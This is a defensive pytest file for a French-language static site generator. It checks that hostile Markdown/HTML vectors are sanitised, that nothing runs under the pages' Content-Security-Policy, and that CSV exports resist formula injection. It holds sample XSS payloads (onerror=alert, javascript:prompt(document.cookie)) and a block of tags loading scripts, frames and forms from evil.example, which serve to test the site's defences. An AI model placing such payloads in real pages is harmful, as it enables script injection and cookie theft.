"""What somebody who means harm can write: published ways to run a script, put everywhere, and opened in a browser.

First the texts alone: what our Markdown offers stays, the rest goes and is told. Then the site: nothing of theirs runs,
with the pages' policy and without it. Then the policy alone: what it would stop, had the first wall a hole.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import socket
import subprocess
import sys
import time
import xml.etree.ElementTree as etree
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

import hostile
import pytest
import samples
from browsers import served, sync_api
from conftest import ROOT, BuildResult, environment
from lxml import html as lxml_html
from markupsafe import Markup
from reader import Site

from capitalise import dialect, policy, reading, removals, safety
from capitalise.addresses import Addresses
from capitalise.locales import texts
from capitalise.markup import Renderer
from capitalise.stick import about, contents

VECTORS = hostile.vectors()
LEAST = 300
"""How many published vectors this must try."""

# ------------------------------------------------------------------------------------------------ texts


OFFERED = """
| a | b | c |
| :-- | :-: | --: |
| 1 | *2* | **3** |

Une phrase[^1], puis une autre[^1] ; `code`, ~~non~~, H<sub>2</sub>O, <kbd>Entrée</kbd>, <mark>vu</mark>,
<del>rayé</del>.

!!! note "Titre"
    Encadré.

!!! facilitator
    Pour qui anime.

??? answer "Réponse"
    Pliée.

=== "Un"
    Premier.

=== "Deux"
    Second.

- [x] fait
- [ ] à faire

3. trois
4. quatre

Terme
:   Définition.

![Une houe](houe.png "Légende")

Le *CAP* et [un lien](https://example.org/), [une adresse](mailto:a@example.org), [une section](#results).

```python
print("<script>")
```

> Citation

* * *

*[CAP]: Communauté
"""
KEPT = """
    table thead tbody tr th[@align='left'] td[@align='center'] td[@align='right'] sup[@id='fnref:1']
    a[@class='footnote-ref'] code sub kbd mark del em strong
    div[@class='admonition_note'] p[@class='admonition-title'] details[@class='facilitator'] details[@class='answer']
    summary div[@class='tabbed-set_tabbed-alternate'] input[@type='radio'] label[@for='__tabbed_1_1']
    input[@type='checkbox'] li[@class='task-list-item'] ol[@start='3'] dl dt dd
    figure figcaption img[@src='../houe.png'] img[@loading='lazy'] a[@href='https://example.org/']
    a[@href='mailto:a@example.org'] a[@href='#results'] pre/code[@class='language-python'] blockquote hr abbr[@title]
""".split()


def test_all_that_our_markdown_offers_stays_and_is_not_told(tmp_path):
    text = f"""\
---
title: Une fiche
summary: Elle se sert de tout.
date: 2026-03-01
authors: [{{name: Awa Exemple}}]
countries: [SN]
themes: [eau]
sources: [{{title: Rapport}}]
photos: [{{file: houe.png, alt: Une houe, credit: Awa Exemple, consent: not-needed}}]
---
{{sections}}
## Pour aller plus loin
{OFFERED}"""
    products = samples.write(
        tmp_path / "products", {"sheets/tout/index.fr.md": text, "sheets/tout/houe.png": hostile.photo}
    )
    library = reading.load(products, ("fr", "en"))
    assert library.problems == ()
    shown = Renderer(library, "fr", Addresses("fr")).render(library.products["sheets/tout"]).sections[-1]
    tree = lxml_html.fragment_fromstring(shown.html.replace("/__root__/sheets/tout/", "../"), create_parent=True)
    for path in KEPT:
        assert tree.xpath(f".//{path.replace('_', ' ') if 'tabbed_' not in path else path}"), path


def clean(text: str) -> str:
    return safety.clean(dialect.parser().convert(text), str, lambda _: None)


ALLOWED = {"http", "https", "mailto", "//", ""}


def test_nothing_of_a_vector_stays_and_nothing_goes_without_a_word():
    assert len(VECTORS) >= LEAST and len({vector.text for vector in VECTORS}) == len(VECTORS)
    silent = []
    for vector in VECTORS:
        made = clean(vector.text)
        for element in lxml_html.fragment_fromstring(made, create_parent=True).iter():
            assert isinstance(element.tag, str) and (element.tag in safety._TAGS or element.tag == "div"), vector
            for name, value in element.attrib.items():
                assert not name.startswith("on") and name not in ("style", "srcset", "action"), (vector, name)
                assert name not in ("href", "src") or safety.scheme_of(value) in ALLOWED, (vector, value)
        shown = _squeezed(Markup(made).striptags() + made)  # of a link, its address is shown too
        told = [*removals.find(vector.text)] or "](http" in vector.text or "](//" in vector.text  # a remote image
        if not told and not all(word in shown for word in _words(vector.text)):
            silent.append(vector.text)
    assert silent == [
        '<![><img src="]><img src=x onerror=alert(1)//">',  # a picture that is not there
        '<img alt="<x" title="/><img src=x onerror=alert(1)>">',  # a picture of nothing
        "![a'\"`onerror=prompt(document.cookie)](x)\\",  # a picture that is not there
        "[citelol]: (javascript:prompt(document.cookie))",  # to which nothing refers
        "![Escape SRC - onerror](\"onerror=\"alert('ImageOnError'))",  # a picture that is not there
        "```{ .x onclick=alert(1) style=position:fixed }\nx\n```",  # above a piece of code
    ]


def _squeezed(text: str) -> str:
    return re.sub(r"[\s_]+", "", Markup(text).unescape()).lower()


def _words(text: str) -> list[str]:
    """The words of a text that its author would miss: comments and Markdown's marks are not."""
    text = Markup(re.sub(r"<!--.*?-->", "", text, flags=re.DOTALL)).unescape()
    return re.findall(r"[^\W_]{3,}", text.lower())


def test_a_long_hostile_text_is_read_as_fast_as_a_short_one(tmp_path):
    for vector in ("<a ", "[x](j:", "<!-- <a", "{ #a=b } ", "<b onclick=", "[a]: j:b\n", "![", "](x", "&#106;"):
        text = "\n\n".join(vector * 4_000 for _ in range(4))
        assert isinstance([*removals.find(text, exactly=False)], list)
    meta = samples.GOOD["sheets/bonne-fiche/index.fr.md"]
    text = meta + "\n## Autre\n\n" + "[x](j: <blink " * 20_000
    products = samples.write(tmp_path / "products", {"sheets/longue/index.fr.md": text})
    assert {one.code for one in reading.load(products).problems} == {"too-complex"}


# ------------------------------------------------------------------------------------------------ the site


@pytest.fixture(scope="module")
def library(tmp_path_factory) -> Path:
    products = tmp_path_factory.mktemp("hostile") / "products"
    assert hostile.write(products) == len(VECTORS)
    return products


@pytest.fixture(scope="module")
def built(build, library) -> BuildResult:
    result = build(library)
    assert result.code == 0 and "Traceback" not in result.log, result.log[-2000:]
    assert "laissé de côté" not in result.log and "] ERROR" not in result.log
    return result


AUDIT = r"""() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName;
    if (/^(iframe|object|embed|base|frame|template|noscript|style|math|portal|applet)$/.test(name)) found.push(name);
    if (name === 'script' && !(element.type === 'application/ld+json' || element.src.startsWith(location.origin) ||
        element.src.startsWith('file:'))) found.push(element.outerHTML.slice(0, 200));
    for (const attribute of element.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$/.test(attribute.name)) found.push(attribute.name + '=' + attribute.value);
    }
  }
  for (const link of document.querySelectorAll('[href], [*|href], [src]')) {
    const way = new URL(link.getAttribute('href') || link.getAttribute('src') || '', document.baseURI).href;
    if (!/^(https?:|mailto:|file:|data:application\/)/.test(way)) found.push(way);
  }
  for (const form of document.forms) if (form.action.startsWith('https:')) found.push(form.action);
  for (const data of document.querySelectorAll('script[type="application/ld+json"]')) JSON.parse(data.textContent);
  if (typeof capitalise.load !== 'function' || !(document.body instanceof HTMLBodyElement) || window.name
      || typeof document.getElementById !== 'function') found.push('clobbered');
  return found;
}"""


@contextmanager
def watched(browser, **options) -> Iterator[tuple]:
    """A page, and everything that went wrong on it."""
    faults: list[str] = []
    context = browser.new_context(**options)
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.on("dialog", lambda dialog: (faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: faults.append(f"window: {popup.url}"))
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("console", lambda said: said.type == "error" and faults.append(said.text))
    own = ("http://127.0.0.1:", "file:", "data:", "blob:")
    page.on("request", lambda asked: asked.url.startswith(own) or faults.append(f"asked: {asked.url}"))
    yield page, faults
    context.close()


def visit(page, faults: list[str], address: str) -> None:
    before = len(faults)
    page.goto(address)
    faults += page.evaluate(AUDIT)
    if page.url.split("?")[0].split("#")[0] != address.split("?")[0].split("#")[0]:
        faults.append(f"went to {page.url}")
    faults[before:] = [f"{address}: {fault}"[:400] for fault in faults[before:]]


ASKED = ("search/?q={}", "?q={}", "catalogue/?theme={0}&q={0}&sort={0}#{0}", "compare/?sheet={0}&sheet={0}",
         "map/?country={0}#{0}", "sheets/hostile-1/?q={0}#{0}")  # fmt: skip


@pytest.mark.parametrize("bypass", [False, True], ids=["policy", "no-policy"])
def test_nothing_of_theirs_runs_on_any_page(browser, built, bypass):
    site = Site(built.path)
    pages = [address for address in site.pages if address != "admin/"]
    assert sum(address.startswith("sheets/hostile-") for address in pages) >= len(VECTORS) / hostile.A_SHEET
    with served(built.path) as root, watched(browser, bypass_csp=bypass) as (page, faults):
        for address in pages:
            visit(page, faults, root + address)
        for number, vector in enumerate(VECTORS[bypass::9]):
            asked = ASKED[number % len(ASKED)]
            visit(page, faults, root + asked.format(quote(vector.text)))
            if asked.startswith("search"):
                page.wait_for_function("document.querySelector('.c-search__told')?.textContent")
                faults += page.evaluate(AUDIT)
    assert faults == []


def test_the_page_says_what_they_wrote(built):
    """The other side: nothing was lost of what is shown as text, and no template was filled in."""
    site = Site(built.path)
    for number, own in enumerate(
        VECTORS[start : start + hostile.A_SHEET] for start in range(0, len(VECTORS), hostile.A_SHEET)
    ):
        page = site.page(f"sheets/hostile-{number + 1}")
        text = " ".join(page.tree.text_content().split())
        for vector in own:
            assert " ".join(re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", " ", vector.text).split()) in text, vector
    for page in site.pages.values():
        assert "root:" not in page.source and "site_name:" not in page.source, page
    marks = [vector.line for vector in VECTORS if "7*7" in vector.text]
    assert marks and not re.search(r"(?<![\w.-])49(?![\w.-])", site.page("glossary").text("//.c-page"))


def test_the_published_data_is_what_its_format_says(built):
    """A text can leave neither its cell, nor its element, nor its script."""
    root = built.path
    catalogue = json.loads((root / "catalogue.json").read_text("utf-8"))
    lines = {" ".join(vector.line.split()) for vector in VECTORS}
    kept = {word for one in catalogue["products"] for word in one["texts"]["fr"]["keywords"]}
    assert len(kept & lines) > 0.9 * len(lines)
    for name in ("places.geojson", "vocabularies.jsonld", "withdrawn.json"):
        json.loads((root / name).read_text("utf-8"))
    for path in [*root.glob("feed_*.xml"), root / "sitemap.xml"]:
        names = {element.tag.rpartition("}")[2] for element in etree.parse(path).iter()}
        assert not names & {"script", "img", "svg"}, path
    rows = [*csv.reader(io.StringIO((root / "catalogue.csv").read_text("utf-8-sig")))]
    assert len({len(row) for row in rows}) == 1 and len(rows) == len(catalogue["products"]) + 1
    for row in rows:
        for cell in row:  # as it is cut where the comma separates, and where the semicolon does
            for part in (cell, *cell.split(";")):
                assert not part.lstrip(" \t").startswith(("=", "+", "-", "@", "＝")) or re.fullmatch(
                    r"-?\d+\.?\d*", part
                )
    for path in root.rglob("citation.*"):
        assert path.read_text("utf-8").count("@") >= (path.suffix == ".bib")


def test_nothing_of_theirs_runs_from_files(browser, build, library, tmp_path):
    for folder in ("vocabularies", "sessions", *(f"sheets/hostile-{number}" for number in (1, 6, 11, 16, 20))):
        shutil.copytree(library / folder, tmp_path / "products" / folder)
    site = build(tmp_path / "products", directory_urls=False, env={about.VARIABLE: about.Request().text})
    assert site.code == 0, site.log[-2000:]
    made = contents.assemble(site.path)
    copy = site.path.parent / "copy"
    for path, source in made.sources.items():
        (copy / path).parent.mkdir(parents=True, exist_ok=True)
        (copy / path).write_bytes(contents.content(source))
    pages = sorted(copy.rglob("*.html"))
    chosen = [page for page in pages if re.search(r"hostile-|glossary|catalogue\.|map\.|README|LISEZ", page.name)]
    assert len(chosen) > 8
    for bypass in (False, True):
        with watched(browser, bypass_csp=bypass) as (page, faults):
            for path in chosen:
                before = len(faults)
                page.goto(path.as_uri())
                if not path.parent == copy:
                    faults += page.evaluate(AUDIT)
                faults[before:] = [f"{path.name}: {fault}"[:400] for fault in faults[before:]]
        assert faults == []


# ------------------------------------------------------------------------------------------------ the policy


HOLE = """
<script>ran.push("inline script")</script>
<script src="data:text/javascript,ran.push('data script')"></script>
<script src="https://evil.example/x.js"></script>
<script type="module">ran.push("module")</script>
<img src="x" onerror="ran.push('handler')">
<img src="https://evil.example/pixel.png">
<a id="pressed" href="javascript:ran.push('link')" onclick="ran.push('click')">x</a>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
<object data="https://evil.example/object"></object>
<embed src="https://evil.example/embed">
<video src="https://evil.example/film.mp4" autoplay></video>
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body { --ran: yes }</style>
<p id="styled" style="--ran: yes">x</p>
<base href="https://evil.example/">
<form id="sent" action="https://evil.example/form"><input name="x"></form>
"""
DONE = """() => {
  document.getElementById('pressed').click();
  const style = (element) => getComputedStyle(element).getPropertyValue('--ran').trim();
  if (style(document.body)) ran.push('style');
  if (style(document.getElementById('styled'))) ran.push('style attribute');
  if (document.baseURI.startsWith('https://evil')) ran.push('base');
  setTimeout(() => eval("ran.push('eval')"));  // by itself: what a test does is allowed to evaluate
  setTimeout(() => setTimeout("ran.push('timer')"));
}"""
EVERYTHING = {"inline script", "data script", "module", "handler", "click", "link", "srcdoc", "style", "eval", "timer"}


def _noting(asked: set[str]):
    def note(route) -> None:
        asked.add(route.request.url)
        route.abort()

    return note


@pytest.mark.parametrize("where", ["http", "file"])
def test_a_hole_in_the_first_wall_would_be_stopped_by_the_policy(
    browser, fixture_site, fixture_site_file, tmp_path, where
):
    folder = {"http": fixture_site, "file": fixture_site_file}[where]
    home = (folder / "index.html").read_text("utf-8")
    (tmp_path / "index.html").write_text(home.replace("</body>", HOLE + "</body>"), "utf-8")
    (tmp_path / "assets").symlink_to(folder / "assets")
    ran: dict[bool, list[str]] = {}
    asked: dict[bool, set[str]] = {}
    with served(tmp_path) as root:
        for bypass in (True, False):
            context = browser.new_context(bypass_csp=bypass)
            context.add_init_script("window.ran = []")
            page = context.new_page()
            got = asked[bypass] = set()
            page.route("https://evil.example/**", _noting(got))  # none that the policy stops gets so far
            page.goto(root if where == "http" else (tmp_path / "index.html").as_uri(), wait_until="domcontentloaded")
            page.wait_for_timeout(300)
            page.evaluate(DONE)
            page.wait_for_timeout(300)
            ran[bypass] = page.evaluate("ran")
            page.evaluate("document.getElementById('sent').submit()")
            page.wait_for_timeout(300)
            context.close()
    assert set(ran[True]) >= EVERYTHING and len(asked[True]) >= 6  # without it, all of it does
    assert (ran[False], asked[False]) == ([], set())


def test_every_page_has_a_policy_and_none_needs_an_exception(site, site_file, copy_site):
    for built, files in ((site, False), (site_file, True), (Site(copy_site, directory_urls=False), True)):
        for page in built.pages.values():
            (given,) = page.all("//head/meta[@http-equiv='Content-Security-Policy']/@content")
            if page.address == "admin/":
                continue
            first = page.one("//head").iterchildren()
            assert next(first).get("charset") and next(first).get("content") == given, page  # before all that it rules
            assert given == (policy.alone() if page.is_redirect else policy.page(files=files)), page
            assert "unsafe-inline" not in given and "'unsafe-eval'" not in given and "*" not in given
            assert not page.all("//style | //@style | //script[not(@src) and not(@type='application/ld+json')]"), page


def test_the_hosts_headers_say_what_a_page_can_not(site):
    rules: dict[str, dict[str, list[str]]] = {}
    for line in (site.folder / "_headers").read_text("utf-8").splitlines():
        if not line.startswith(" "):
            rules[line] = path = {}
            continue
        name, _, value = line.strip().partition(": ")
        path.setdefault(name, []).append(value)
        assert len(line) < 2000
    assert len(rules) < 100  # Cloudflare reads no more of them
    assert {"X-Content-Type-Options", "Referrer-Policy", "Permissions-Policy", "X-Frame-Options"} <= set(rules["/*"])
    (framed,) = rules["/*"]["Content-Security-Policy"]
    assert framed == policy.FRAMED  # the editor's page needs no more
    folders = {address.split("/")[0] for address in site.pages if "/" in address} - {"admin"}
    assert {f"/{name}/*" for name in folders} | {"/*", "/", "/index.html", "/404.html"} == set(rules)
    for path in set(rules) - {"/*"}:
        assert rules[path]["Content-Security-Policy"] == [f"{policy.page(files=False)}; {policy.FRAMED}"]
    assert not (Site(ROOT).folder / "_headers").exists()


def test_who_runs_another_server_finds_the_same_lines():
    told = " ".join((ROOT / "HOSTING.md").read_text("utf-8").split())
    for name, value in policy.HEADERS.items():
        assert f'add_header {name} "{value}" always;' in told and f'Header always set {name} "{value}"' in told
    for words in (f'"{policy.page(files=False)}; {policy.FRAMED}"', f'"{policy.FRAMED}"'):
        assert told.count(words) == 2, words


def test_a_preview_reloads_itself_under_its_policy(browser, tmp_path):
    """MkDocs puts a script into each page that it shows: the policy lets in this one and no other."""
    products = samples.write(tmp_path / "products", {})
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "mkdocs", "serve", "--livereload", "-a", f"127.0.0.1:{port}"]
    with open(tmp_path / "log", "w", encoding="utf-8") as log:
        serving = subprocess.Popen(command, cwd=ROOT, env=environment(products), stdout=log, stderr=log)
    address = f"http://127.0.0.1:{port}/sheets/bonne-fiche/"
    try:
        with watched(browser) as (page, faults):
            end = time.monotonic() + 120
            while True:
                try:
                    page.goto(address)
                    break
                except sync_api.Error:
                    assert serving.poll() is None and time.monotonic() < end, (tmp_path / "log").read_text("utf-8")
                    time.sleep(0.3)
            faults.clear()
            page.wait_for_timeout(500)
            text = products / "sheets/bonne-fiche/index.fr.md"
            text.write_text(text.read_text("utf-8").replace("Une vallée sèche.", "Une vallée verte."), "utf-8")
            page.wait_for_function("document.body.textContent.includes('Une vallée verte.')", timeout=60_000)
            assert faults == []
    finally:
        serving.kill()
        serving.wait()


def test_the_words_of_unsafe_html_are_there_in_both_languages():
    for lang in ("fr", "en"):
        variants = {key.split(".")[2] for key in texts(lang).table if key.startswith("problem.unsafe-html.")}
        assert variants == {*removals._WORDS.values(), "tag", "attribute", "link", "image", "field"}
